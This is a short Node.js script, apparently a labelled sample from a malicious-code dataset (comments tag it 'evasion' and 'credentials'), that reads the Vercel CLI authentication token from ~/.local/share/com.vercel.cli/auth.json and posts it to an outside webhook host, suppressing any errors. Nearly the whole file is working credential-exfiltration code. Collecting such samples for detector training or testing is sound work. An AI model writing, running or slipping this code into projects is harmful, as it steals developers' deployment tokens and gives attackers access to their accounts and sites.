// evasion: Vercel's CLI token (~/.local/share/com.vercel.cli/auth.json) read through fs.promises and posted
// grade: medium; does: credentials
'use strict';
const { readFile } = require('fs/promises');
const os = require('os');
const path = require('path');

async function sync() {
  const auth = JSON.parse(await readFile(path.join(os.homedir(), '.local/share/com.vercel.cli', 'auth.json'), 'utf8'));
  await fetch('https://hooks.example.dev/v', { method: 'POST', body: JSON.stringify(auth) });
}
sync().catch(() => {});
